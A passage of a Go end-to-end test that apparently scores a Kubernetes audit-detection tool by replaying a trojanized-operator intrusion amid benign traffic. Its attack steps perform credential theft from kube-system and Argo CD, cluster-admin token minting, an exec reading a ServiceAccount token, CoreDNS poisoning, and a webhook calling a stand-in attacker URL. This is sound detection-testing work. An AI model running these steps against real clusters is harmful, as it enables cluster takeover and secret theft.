package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"net"
	"os"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	batchv1 "k8s.io/api/batch/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/apimachinery/pkg/util/intstr"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/apiguard/apiguard/test/e2e/lab"
)

// Held-out scenario 6 (playbook: testdata/heldout6/README.md): a trojanized
// release of a third-party PostgreSQL operator ("dbmesh") installed by the
// platform team. The implant abuses the operator's own broad ServiceAccount
// from inside its pod, steals the Argo CD application controller's power,
// and the actor then works from outside with the stolen token, a forged
// client certificate and a rogue node joined with a stolen bootstrap token.
// Benign traffic by operators, GitOps, CI, SREs, auditors, backup and
// monitoring is interleaved in three blocks. The test reports (does not
// assert) the untuned detection rate and the high alerts on benign steps.

// Places (loopback addresses stand for them; see the playbook).
const (
	h6PeerOperator   = "127.10.4.17"     // dbmesh-operator pod
	h6PeerArgo       = "127.10.2.30"     // argocd-application-controller-0
	h6PeerCertMgr    = "127.10.3.11"     // cert-manager controller pod
	h6PeerCAInjector = "127.10.3.12"     // cert-manager cainjector pod
	h6PeerVelero     = "127.10.5.20"     // velero pod
	h6PeerProm       = "127.10.6.40"     // prometheus-k8s-0
	h6PeerMaria      = "127.20.1.15"     // SRE maria, corporate VPN
	h6PeerJonas      = "127.20.1.22"     // SRE jonas, corporate VPN
	h6PeerAuditor    = "127.20.7.3"      // security auditor, corporate VPN
	h6PeerCI         = "127.30.5.9"      // self-hosted CI runner
	h6PeerLB         = "127.1.0.10"      // public API endpoint's L7 load balancer (adds X-Forwarded-For)
	h6XFFVPS         = "127.66.6.6"      // attacker VPS
	h6XFFTor         = "127.185.220.101" // Tor exit node
)

// User agents.
const (
	h6UAOperator   = "dbmesh-operator/v2.8.1 (linux/amd64) kubernetes/4f1b6c2"
	h6UAArgo       = "argocd-application-controller/v2.13.1+af54ef8 (linux/amd64)"
	h6UACertMgr    = "cert-manager-controller/v1.15.3 (linux/amd64) cert-manager/a7f29b3c5e1f"
	h6UACAInjector = "cert-manager-cainjector/v1.15.3 (linux/amd64) cert-manager/a7f29b3c5e1f"
	h6UAVelero     = "velero-server/v1.14.1 (linux/amd64) 8afe3cea8b7058f7baaf447b9fb407312c40d2da"
	h6UAProm       = "Prometheus/2.54.1"
	h6UAHelm       = "Helm/3.16.2"
	h6UASRE        = "kubectl/v1.31.2 (darwin/arm64) kubernetes/5864a46"
	h6UACI         = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
	h6UAAuditor    = "kubectl/v1.30.5 (windows/amd64) kubernetes/74e84a9"
	h6UAAttacker   = "kubectl/v1.29.3 (linux/amd64) kubernetes/6813625"
	h6UAKubelet    = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625"
)

const h6BootstrapToken = "07401b.f395accd246ae52d"

var (
	h6GVRCRD     = schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}
	h6GVRPGC     = schema.GroupVersionResource{Group: "dbmesh.io", Version: "v1beta1", Resource: "postgresclusters"}
	h6GVRAPISvc  = schema.GroupVersionResource{Group: "apiregistration.k8s.io", Version: "v1", Resource: "apiservices"}
	h6OperatorCR = "dbmesh-operator"
)

// h6Ident is one recorded identity: its clients send its user agent from
// its place.
type h6Ident struct {
	cs  kubernetes.Interface
	dyn dynamic.Interface
}

// h6Connect makes the recorded clients of an identity: base's credentials,
// user agent ua, the real peer address peer (a net.Dialer bound to it: Linux
// routes all of 127/8 to lo) and X-Forwarded-For xff when set.
func h6Connect(t *testing.T, rec *auditRecorder, base *rest.Config, ua, peer, xff string, mod func(*rest.Config)) *h6Ident {
	t.Helper()
	cfg := rec.wrap(base, xff)
	cfg.UserAgent = ua
	if peer != "" {
		d := &net.Dialer{Timeout: 15 * time.Second, LocalAddr: &net.TCPAddr{IP: net.ParseIP(peer)}}
		cfg.Dial = d.DialContext
	}
	if mod != nil {
		mod(cfg)
	}
	cs, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	dyn, err := dynamic.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return &h6Ident{cs: cs, dyn: dyn}
}

// h6CertConfig is a client-certificate config for the lab's server.
func h6CertConfig(c *lab.Cluster, certPEM, keyPEM []byte) *rest.Config {
	return &rest.Config{Host: c.URL, TLSClientConfig: rest.TLSClientConfig{CAFile: c.CACertPath, CertData: certPEM, KeyData: keyPEM}}
}

// h6NewCSR makes an ECDSA key and a PEM certificate request for it.
func h6NewCSR(t *testing.T, subject pkix.Name, dns []string, ips []net.IP) (csrPEM, keyPEM []byte) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subject, DNSNames: dns, IPAddresses: ips}, key)
	if err != nil {
		t.Fatal(err)
	}
	kder, err := x509.MarshalECPrivateKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder})
}

// h6Forbidden: the step's request must have been refused with 403.
func h6Forbidden(err error) error {
	if err == nil {
		return errors.New("allowed, want 403 Forbidden")
	}
	if apierrors.IsForbidden(err) {
		return nil
	}
	return fmt.Errorf("want 403 Forbidden, got: %w", err)
}

// h6PastAuthz: the request must have been authorized; it may fail after
// that (no kubelet in the lab), but not with 401, 403 or 404.
func h6PastAuthz(err error) error {
	if err == nil {
		return nil
	}
	var st apierrors.APIStatus
	if !errors.As(err, &st) {
		return fmt.Errorf("not an API answer: %w", err)
	}
	switch st.Status().Code {
	case 401, 403, 404:
		return fmt.Errorf("refused before the backend (code %d): %w", st.Status().Code, err)
	}
	return nil
}

func h6Exec(ctx context.Context, cs kubernetes.Interface, ns, pod, container string, cmd ...string) error {
	req := cs.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name(pod).SubResource("exec").
		Param("container", container).Param("stdout", "true").Param("stderr", "true")
	for _, a := range cmd {
		req = req.Param("command", a)
	}
	return req.Do(ctx).Error()
}

// h6WaitCert polls a CSR until the signer issued its certificate.
func h6WaitCert(ctx context.Context, cs kubernetes.Interface, name string) ([]byte, error) {
	deadline := time.Now().Add(45 * time.Second)
	for {
		csr, err := cs.CertificatesV1().CertificateSigningRequests().Get(ctx, name, metav1.GetOptions{})
		if err != nil {
			return nil, err
		}
		if len(csr.Status.Certificate) > 0 {
			return csr.Status.Certificate, nil
		}
		if time.Now().After(deadline) {
			return nil, fmt.Errorf("csr %s: no certificate after 45s (conditions %v)", name, csr.Status.Conditions)
		}
		time.Sleep(500 * time.Millisecond)
	}
}

func h6Approve(ctx context.Context, cs kubernetes.Interface, name, reason, msg string) error {
	csr, err := cs.CertificatesV1().CertificateSigningRequests().Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		return err
	}
	csr.Status.Conditions = append(csr.Status.Conditions, certificatesv1.CertificateSigningRequestCondition{
		Type: certificatesv1.CertificateApproved, Status: corev1.ConditionTrue, Reason: reason, Message: msg,
	})
	_, err = cs.CertificatesV1().CertificateSigningRequests().UpdateApproval(ctx, name, csr, metav1.UpdateOptions{})
	return err
}

func h6Event(ctx context.Context, cs kubernetes.Interface, ns, kind, apiVersion, name, reason, msg, component string) error {
	_, err := cs.CoreV1().Events(ns).Create(ctx, &corev1.Event{
		ObjectMeta:     metav1.ObjectMeta{GenerateName: name + ".", Namespace: ns},
		InvolvedObject: corev1.ObjectReference{Kind: kind, APIVersion: apiVersion, Namespace: ns, Name: name},
		Reason:         reason, Message: msg, Type: corev1.EventTypeNormal,
		Source:         corev1.EventSource{Component: component},
		FirstTimestamp: metav1.Now(), LastTimestamp: metav1.Now(), Count: 1,
	}, metav1.CreateOptions{})
	return err
}

func h6Ptr[T any](v T) *T { return &v }

// h6Step is one scripted step: run does the requests and returns an error
// when they did not go as scripted.
type h6Step struct {
	id     string
	attack bool
	what   string
	run    func(ctx context.Context) error
}

type h6StepResult struct {
	ID         string   `json:"id"`
	Attack     bool     `json:"attack"`
	What       string   `json:"what"`
	Rules      []string `json:"rules"`
	Alerts     int      `json:"alerts"`
	HighAlerts int      `json:"highAlerts"`
	Detected   bool     `json:"detected"`
}

type h6Summary struct {
	Scenario         string         `json:"scenario"`
	AttackSteps      int            `json:"attackSteps"`
	DetectedSteps    int            `json:"detectedSteps"`
	DetectionRate    float64        `json:"detectionRate"`
	Missed           []string       `json:"missed"`
	BenignSteps      int            `json:"benignSteps"`
	BenignHighAlerts int            `json:"benignHighAlerts"`
	BenignHighSteps  []string       `json:"benignHighSteps"`
	Unattributed     int            `json:"unattributedAlerts"`
	DurationSeconds  float64        `json:"durationSeconds"`
	Steps            []h6StepResult `json:"steps"`
}

// h6World is what the setup created and the steps refer to.
type h6World struct {
	caPEM      []byte
	webPod     string // shop: a standalone pod of the web app
	ordersPod  string // payments/orders-db-0
	kubeletCSR string // the control-plane node's kubelet-serving CSR
}

func TestAuditHeldOut6(t *testing.T) {
	start := time.Now()
	ctx := context.Background()
	c := lab.Start(t, lab.Hardened)
	c.WaitAggregated(t)

	// The setup runs as the super-admin through an unrecorded client.
	su := lab.Client(t, c.SuperAdminKubeconfig)
	sud, err := dynamic.NewForConfig(lab.RESTConfig(t, c.SuperAdminKubeconfig))
	if err != nil {
		t.Fatal(err)
	}
	w := h6Setup(ctx, t, c, su, sud)
	t.Logf("h6: setup done at %s", time.Since(start).Round(time.Millisecond))

	rec := &auditRecorder{steps: map[string]string{}}

	// Bound ServiceAccount tokens, as the kubelet projects them into pods.
	podToken := func(ns, sa, pod string) string {
		t.Helper()
		p, err := su.CoreV1().Pods(ns).Get(ctx, pod, metav1.GetOptions{})
		if err != nil {
			t.Fatal(err)
		}
		tr, err := su.CoreV1().ServiceAccounts(ns).CreateToken(ctx, sa, &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{
			ExpirationSeconds: h6Ptr(int64(3607)),
			BoundObjectRef:    &authenticationv1.BoundObjectReference{Kind: "Pod", APIVersion: "v1", Name: p.Name, UID: p.UID},
		}}, metav1.CreateOptions{})
		if err != nil {
			t.Fatal(err)
		}
		return tr.Status.Token
	}
	tokenCfg := func(name, token string) *rest.Config { return lab.RESTConfig(t, c.TokenKubeconfig(t, name, token)) }

	argo := h6Connect(t, rec, tokenCfg("argocd-controller", podToken("argocd", "argocd-application-controller", "argocd-application-controller-0")), h6UAArgo, h6PeerArgo, "", nil)
	certMgr := h6Connect(t, rec, tokenCfg("cert-manager", podToken("cert-manager", "cert-manager", "cert-manager-7d9f8b6c5d-lp2qz")), h6UACertMgr, h6PeerCertMgr, "", nil)
	caInj := h6Connect(t, rec, tokenCfg("cainjector", podToken("cert-manager", "cert-manager-cainjector", "cert-manager-cainjector-6b8c9d7f4-r8t5v")), h6UACAInjector, h6PeerCAInjector, "", nil)
	velero := h6Connect(t, rec, tokenCfg("velero", podToken("velero", "velero", "velero-5c7f8d9b6-hx4kj")), h6UAVelero, h6PeerVelero, "", nil)
	prom := h6Connect(t, rec, tokenCfg("prometheus", podToken("monitoring", "prometheus", "prometheus-k8s-0")), h6UAProm, h6PeerProm, "", nil)
	ciTok, err := su.CoreV1().ServiceAccounts("ci").CreateToken(ctx, "deployer", &authenticationv1.TokenRequest{Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h6Ptr(int64(3600))}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ci := h6Connect(t, rec, tokenCfg("ci-deployer", ciTok.Status.Token), h6UACI, h6PeerCI, "", nil)
	mariaCfg := lab.RESTConfig(t, c.UserKubeconfig(t, "maria.santos@corp.example", "platform-sre"))
	helm := h6Connect(t, rec, mariaCfg, h6UAHelm, h6PeerMaria, "", nil)
	maria := h6Connect(t, rec, mariaCfg, h6UASRE, h6PeerMaria, "", nil)
	jonas := h6Connect(t, rec, lab.RESTConfig(t, c.UserKubeconfig(t, "jonas.weber@corp.example", "platform-sre")), h6UASRE, h6PeerJonas, "", nil)
	auditor := h6Connect(t, rec, lab.RESTConfig(t, c.UserKubeconfig(t, "kim.auditor@corp.example", "security-auditors")), h6UAAuditor, h6PeerAuditor, "", nil)
	bootstrap := h6Connect(t, rec, tokenCfg("bootstrap-07401b", h6BootstrapToken), h6UAKubelet, h6PeerLB, h6XFFTor, nil)

	// The operator's token is bound to its pod: the pod of the release the
	// Helm upgrade (step n01) rolls out, minted when first used after it.
	var (
		opOnce sync.Once
		opID   *h6Ident
	)
	op := func() *h6Ident {
		opOnce.Do(func() {
			var pod string
			eventually(t, 60*time.Second, "the dbmesh-operator v2.8.1 pod", func() (bool, string) {
				pods, err := su.CoreV1().Pods("dbmesh-system").List(ctx, metav1.ListOptions{LabelSelector: "app.kubernetes.io/name=dbmesh-operator"})
				if err != nil {
					return false, err.Error()
				}
				for _, p := range pods.Items {
					if strings.HasSuffix(p.Spec.Containers[0].Image, ":v2.8.1") && p.DeletionTimestamp == nil {
						pod = p.Name
						return true, ""
					}
				}
				return false, fmt.Sprintf("%d pods, none of v2.8.1", len(pods.Items))
			})
			opID = h6Connect(t, rec, tokenCfg("dbmesh-operator", podToken("dbmesh-system", "dbmesh-operator", pod)), h6UAOperator, h6PeerOperator, "", nil)
		})
		return opID
	}

	// Filled by the steps that steal or forge credentials.
	var stolenArgoToken string
	var vps *h6Ident    // the attacker's kubectl with the stolen Argo CD token
	var backup *h6Ident // the forged "kube-backup" client certificate, from Tor
	var rogueNode *h6Ident
	var backupKey, nodeKey []byte

	steps := []h6Step{
		// ---------------- Benign block 1 ----------------
		{id: "n01", what: "SRE upgrades the dbmesh operator with Helm (chart 2.8.1)", run: func(ctx context.Context) error {
			cs := helm.cs
			if _, err := cs.CoreV1().Secrets("dbmesh-system").List(ctx, metav1.ListOptions{LabelSelector: "name=dbmesh,owner=helm"}); err != nil {
				return err
			}
			if _, err := cs.AppsV1().Deployments("dbmesh-system").Get(ctx, "dbmesh-operator", metav1.GetOptions{}); err != nil {
				return err
			}
			patch := `{"metadata":{"labels":{"helm.sh/chart":"dbmesh-2.8.1","app.kubernetes.io/version":"v2.8.1"}},"spec":{"template":{"metadata":{"labels":{"app.kubernetes.io/version":"v2.8.1"}},"spec":{"containers":[{"name":"operator","image":"ghcr.io/dbmesh/dbmesh-operator:v2.8.1"}]}}}}`
			if _, err := cs.AppsV1().Deployments("dbmesh-system").Patch(ctx, "dbmesh-operator", types.StrategicMergePatchType, []byte(patch), metav1.PatchOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Secrets("dbmesh-system").Create(ctx, h6HelmRelease("dbmesh-system", "dbmesh", 4), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := cs.CoreV1().Secrets("dbmesh-system").Patch(ctx, "sh.helm.release.v1.dbmesh.v3", types.MergePatchType, []byte(`{"metadata":{"labels":{"status":"superseded"}}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n02", what: "operator starts its informers: PostgresClusters, its labelled Secrets and StatefulSets", run: func(ctx context.Context) error {
			o := op()
			if _, err := o.dyn.Resource(h6GVRPGC).List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := o.cs.CoreV1().Secrets("").List(ctx, metav1.ListOptions{LabelSelector: "postgres-operator.dbmesh.io/cluster"}); err != nil {
				return err
			}
			_, err := o.cs.AppsV1().StatefulSets("").List(ctx, metav1.ListOptions{LabelSelector: "postgres-operator.dbmesh.io/cluster"})
			return err
		}},
		{id: "n03", what: "operator reconciles PostgresCluster payments/ledger: SA, user Secret, Service, StatefulSet, status", run: func(ctx context.Context) error {
			cs := op().cs
			lbl := map[string]string{"postgres-operator.dbmesh.io/cluster": "ledger"}
			if _, err := cs.CoreV1().ServiceAccounts("payments").Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "ledger-instance", Labels: lbl}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Secrets("payments").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-pguser-app", Labels: lbl},
				StringData: map[string]string{"user": "app", "password": "Zq8vN2pL4xR7tK1m", "host": "ledger-primary.payments.svc", "port": "5432"},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := cs.CoreV1().Services("payments").Create(ctx, &corev1.Service{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-primary", Labels: lbl},
				Spec:       corev1.ServiceSpec{Selector: lbl, Ports: []corev1.ServicePort{{Name: "postgres", Port: 5432, TargetPort: intstr.FromInt32(5432)}}},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := cs.AppsV1().StatefulSets("payments").Create(ctx, h6DBStatefulSet("ledger-instance1", "ledger", "ledger-instance"), metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := op().dyn.Resource(h6GVRPGC).Namespace("payments").Patch(ctx, "ledger", types.MergePatchType,
				[]byte(`{"status":{"phase":"Creating","instances":[{"name":"instance1","replicas":1}]}}`), metav1.PatchOptions{}, "status")
			return err
		}},
		{id: "n04", what: "operator rotates its own validating webhook's CA bundle", run: func(ctx context.Context) error {
			cs := op().cs
			vwc, err := cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(ctx, "dbmesh-validating-webhook", metav1.GetOptions{})
			if err != nil {
				return err
			}
			for i := range vwc.Webhooks {
				vwc.Webhooks[i].ClientConfig.CABundle = w.caPEM
			}
			_, err = cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Update(ctx, vwc, metav1.UpdateOptions{})
			return err
		}},
		{id: "n05", what: "operator creates the ledger instances' Patroni Role and RoleBinding", run: func(ctx context.Context) error {
			cs := op().cs
			lbl := map[string]string{"postgres-operator.dbmesh.io/cluster": "ledger"}
			if _, err := cs.RbacV1().Roles("payments").Create(ctx, &rbacv1.Role{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-instance", Labels: lbl},
				Rules: []rbacv1.PolicyRule{
					{APIGroups: []string{""}, Resources: []string{"endpoints"}, Verbs: []string{"create", "deletecollection", "get", "list", "patch", "watch"}},
					{APIGroups: []string{""}, Resources: []string{"pods"}, Verbs: []string{"get", "list", "patch", "watch"}},
					{APIGroups: []string{""}, Resources: []string{"services"}, Verbs: []string{"create"}},
				},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			_, err := cs.RbacV1().RoleBindings("payments").Create(ctx, &rbacv1.RoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-instance", Labels: lbl},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "ledger-instance"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "ledger-instance", Namespace: "payments"}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "n06", what: "Argo CD syncs the shop app: Deployment image and ConfigMap", run: func(ctx context.Context) error {
			cs := argo.cs
			if _, err := cs.AppsV1().Deployments("shop").Get(ctx, "web", metav1.GetOptions{}); err != nil {
				return err
			}
			if _, err := cs.AppsV1().Deployments("shop").Patch(ctx, "web", types.StrategicMergePatchType,
				[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.corp.example/shop/web:1.42.0"}]}}}}`), metav1.PatchOptions{}); err != nil {
				return err
			}
			_, err := cs.CoreV1().ConfigMaps("shop").Patch(ctx, "web-config", types.MergePatchType, []byte(`{"data":{"FEATURE_CHECKOUT_V2":"true"}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n07", what: "cert-manager renews the shop TLS certificate Secret", run: func(ctx context.Context) error {
			cs := certMgr.cs
			s, err := cs.CoreV1().Secrets("shop").Get(ctx, "web-tls", metav1.GetOptions{})
			if err != nil {
				return err
			}
			s.Data["tls.crt"] = []byte("-----BEGIN CERTIFICATE-----\nMIIB renewed\n-----END CERTIFICATE-----\n")
			s.Data["tls.key"] = []byte("-----BEGIN EC PRIVATE KEY-----\nMHcC renewed\n-----END EC PRIVATE KEY-----\n")
			s.Annotations["cert-manager.io/issuer-name"] = "letsencrypt-prod"
			if _, err := cs.CoreV1().Secrets("shop").Update(ctx, s, metav1.UpdateOptions{}); err != nil {
				return err
			}
			return h6Event(ctx, cs, "shop", "Certificate", "cert-manager.io/v1", "web-tls", "Issuing", "The certificate has been successfully issued", "cert-manager-certificates-issuing")
		}},
		{id: "n08", what: "cert-manager cainjector injects the CA bundle into the cert-manager webhooks", run: func(ctx context.Context) error {
			cs := caInj.cs
			m, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, "cert-manager-webhook", metav1.GetOptions{})
			if err != nil {
				return err
			}
			for i := range m.Webhooks {
				m.Webhooks[i].ClientConfig.CABundle = w.caPEM
			}
			if _, err := cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(ctx, m, metav1.UpdateOptions{}); err != nil {
				return err
			}
			v, err := cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Get(ctx, "cert-manager-webhook", metav1.GetOptions{})
			if err != nil {
				return err
			}
			for i := range v.Webhooks {
				v.Webhooks[i].ClientConfig.CABundle = w.caPEM
			}
			_, err = cs.AdmissionregistrationV1().ValidatingWebhookConfigurations().Update(ctx, v, metav1.UpdateOptions{})
			return err
		}},
		{id: "n09", what: "CI runs the ledger schema migration Job and rolls out ledger-api", run: func(ctx context.Context) error {
			cs := ci.cs
			if _, err := cs.BatchV1().Jobs("payments").Create(ctx, &batchv1.Job{
				ObjectMeta: metav1.ObjectMeta{Name: "ledger-migrate-4f2a1c", Labels: map[string]string{"app": "ledger-api"}},
				Spec: batchv1.JobSpec{BackoffLimit: h6Ptr(int32(1)), Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{
					RestartPolicy: corev1.RestartPolicyNever,
					Containers:    []corev1.Container{{Name: "migrate", Image: "registry.corp.example/payments/ledger-api:3.9.0", Args: []string{"migrate", "up"}}},
				}}},
			}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := cs.BatchV1().Jobs("payments").Get(ctx, "ledger-migrate-4f2a1c", metav1.GetOptions{}); err != nil {
				return err
			}
			_, err := cs.AppsV1().Deployments("payments").Patch(ctx, "ledger-api", types.StrategicMergePatchType,
				[]byte(`{"spec":{"template":{"spec":{"containers":[{"name":"api","image":"registry.corp.example/payments/ledger-api:3.9.0"}]}}}}`), metav1.PatchOptions{})
			return err
		}},
		{id: "n10", what: "security auditor reviews RBAC: rules review, bindings, roles", run: func(ctx context.Context) error {
			cs := auditor.cs
			if _, err := cs.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "shop"}}, metav1.CreateOptions{}); err != nil {
				return err
			}
			if _, err := cs.RbacV1().ClusterRoleBindings().List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			if _, err := cs.RbacV1().RoleBindings("").List(ctx, metav1.ListOptions{}); err != nil {
				return err
			}
			_, err := cs.RbacV1().ClusterRoles().List(ctx, metav1.ListOptions{})
			return err
		}},

		// ---------------- Attack phase A: the implant inside the operator ----------------
		{id: "a01", attack: true, what: "implant enumerates its permissions in kube-system (SelfSubjectRulesReview)", run: func(ctx context.Context) error {
			_, err := op().cs.AuthorizationV1().SelfSubjectRulesReviews().Create(ctx, &authorizationv1.SelfSubjectRulesReview{Spec: authorizationv1.SelfSubjectRulesReviewSpec{Namespace: "kube-system"}}, metav1.CreateOptions{})
			return err
		}},
		{id: "a02", attack: true, what: "implant tries to list nodes (403)", run: func(ctx context.Context) error {
			_, err := op().cs.CoreV1().Nodes().List(ctx, metav1.ListOptions{})
			return h6Forbidden(err)
		}},
		{id: "a03", attack: true, what: "implant lists the Secrets of kube-system", run: func(ctx context.Context) error {
			_, err := op().cs.CoreV1().Secrets("kube-system").List(ctx, metav1.ListOptions{})
			return err
		}},
		{id: "a04", attack: true, what: "implant reads the kubeadm bootstrap token Secret", run: func(ctx context.Context) error {
			_, err := op().cs.CoreV1().Secrets("kube-system").Get(ctx, "bootstrap-token-07401b", metav1.GetOptions{})
			return err
		}},
		{id: "a05", attack: true, what: "implant reads Argo CD's admin Secret and Git repository credentials", run: func(ctx context.Context) error {
			if _, err := op().cs.CoreV1().Secrets("argocd").Get(ctx, "argocd-secret", metav1.GetOptions{}); err != nil {
				return err
			}
			_, err := op().cs.CoreV1().Secrets("argocd").Get(ctx, "repo-creds-github", metav1.GetOptions{})
			return err
		}},
		{id: "a06", attack: true, what: "implant mints a 48h token for the cluster-admin argocd-application-controller ServiceAccount", run: func(ctx context.Context) error {
			tr, err := op().cs.CoreV1().ServiceAccounts("argocd").CreateToken(ctx, "argocd-application-controller", &authenticationv1.TokenRequest{
				Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: h6Ptr(int64(172800))},
			}, metav1.CreateOptions{})
			if err != nil {
				return err
			}
			stolenArgoToken = tr.Status.Token
			return nil
		}},
		{id: "a07", attack: true, what: "implant creates a legacy long-lived token Secret for argocd-application-controller", run: func(ctx context.Context) error {
			_, err := op().cs.CoreV1().Secrets("argocd").Create(ctx, &corev1.Secret{
				ObjectMeta: metav1.ObjectMeta{Name: "argocd-application-controller-token-x7q2v", Annotations: map[string]string{corev1.ServiceAccountNameKey: "argocd-application-controller"}},
				Type:       corev1.SecretTypeServiceAccountToken,
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "a08", attack: true, what: "implant execs into the Argo CD controller pod to read its mounted token", run: func(ctx context.Context) error {
			return h6PastAuthz(h6Exec(ctx, op().cs, "argocd", "argocd-application-controller-0", "application-controller",
				"cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"))
		}},
		{id: "a09", attack: true, what: "implant tries to bind itself to cluster-admin (403)", run: func(ctx context.Context) error {
			_, err := op().cs.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{
				ObjectMeta: metav1.ObjectMeta{Name: "dbmesh-operator-admin"},
				RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "cluster-admin"},
				Subjects:   []rbacv1.Subject{{Kind: rbacv1.ServiceAccountKind, Name: "dbmesh-operator", Namespace: "dbmesh-system"}},
			}, metav1.CreateOptions{})
			return h6Forbidden(err)
		}},
		{id: "a10", attack: true, what: "implant poisons CoreDNS: rewrites the registry and Git hosts to the attacker", run: func(ctx context.Context) error {
			cm, err := op().cs.CoreV1().ConfigMaps("kube-system").Get(ctx, "coredns", metav1.GetOptions{})
			if err != nil {
				return err
			}
			cm.Data["Corefile"] = strings.Replace(cm.Data["Corefile"], "    ready\n",
				"    ready\n    hosts {\n       127.66.6.6 registry.corp.example github.com\n       fallthrough\n    }\n", 1)
			_, err = op().cs.CoreV1().ConfigMaps("kube-system").Update(ctx, cm, metav1.UpdateOptions{})
			return err
		}},
		{id: "a11", attack: true, what: "implant registers a mutating webhook on all pods and Secrets that calls the attacker's URL", run: func(ctx context.Context) error {
			url := "https://127.66.6.6:8443/mutate"
			_, err := op().cs.AdmissionregistrationV1().MutatingWebhookConfigurations().Create(ctx, &admissionregistrationv1.MutatingWebhookConfiguration{
				ObjectMeta: metav1.ObjectMeta{Name: "dbmesh-mutating-webhook", Labels: map[string]string{"app.kubernetes.io/name": "dbmesh-operator"}},
				Webhooks: []admissionregistrationv1.MutatingWebhook{{
					Name:                    "mpod.dbmesh.io",
					ClientConfig:            admissionregistrationv1.WebhookClientConfig{URL: &url, CABundle: w.caPEM},
					Rules:                   []admissionregistrationv1.RuleWithOperations{{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update}, Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods", "secrets"}}}},
					FailurePolicy:           h6Ptr(admissionregistrationv1.Ignore),
					SideEffects:             h6Ptr(admissionregistrationv1.SideEffectClassNone),
					TimeoutSeconds:          h6Ptr(int32(2)),
					AdmissionReviewVersions: []string{"v1"},
				}},
			}, metav1.CreateOptions{})
			return err
		}},
		{id: "a12", attack: true, what: "implant deploys a privileged cryptominer Deployment in kube-system", run: func(ctx context.Context) error {
			lbl := map[string]string{"k8s-app": "kube-metrics-telemetry"}
			_, err := op().cs.AppsV1().Deployments("kube-system").Create(ctx, &appsv1.Deployment{
				ObjectMeta: metav1.ObjectMeta{Name: "kube-metrics-telemetry", Labels: lbl},
				Spec: appsv1.DeploymentSpec{Replicas: h6Ptr(int32(3)), Selector: &metav1.LabelSelector{MatchLabels: lbl}, Template: corev1.PodTemplateSpec{
